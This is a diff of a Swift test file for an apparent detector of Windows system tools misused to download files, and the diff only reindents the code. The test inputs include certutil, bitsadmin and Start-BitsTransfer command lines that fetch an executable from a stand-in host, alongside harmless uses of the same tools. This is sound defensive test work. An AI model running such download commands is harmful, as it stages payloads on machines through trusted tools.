@@ -4,19 +4,19 @@ import Testing
 
 struct SystemToolDownloadTests {
   @Test(arguments: [
-      "certutil -urlcache -split -f http://fix.example/a.exe a.exe",
-      #"bitsadmin /transfer j http://fix.example/a.exe C:\a.exe"#,
-      "Start-BitsTransfer -Source https://fix.example/a -Destination a",
-    ])
+    "certutil -urlcache -split -f http://fix.example/a.exe a.exe",
+    #"bitsadmin /transfer j http://fix.example/a.exe C:\a.exe"#,
+    "Start-BitsTransfer -Source https://fix.example/a -Destination a",
+  ])
   func `a download by a tool for something else is noticed`(text: String) {
     #expect(SystemToolDownload.severity(of: text) == .notice)
   }
 
   @Test(arguments: [
-      "certutil -hashfile a.exe SHA256",
-      "bitsadmin /list",
-      #"Start-BitsTransfer -Source \\server\share\a -Destination C:\a"#,
-    ])
+    "certutil -hashfile a.exe SHA256",
+    "bitsadmin /list",
+    #"Start-BitsTransfer -Source \\server\share\a -Destination C:\a"#,
+  ])
   func `the proper use of such tools is nothing`(text: String) {
     #expect(SystemToolDownload.severity(of: text) == nil)
   }
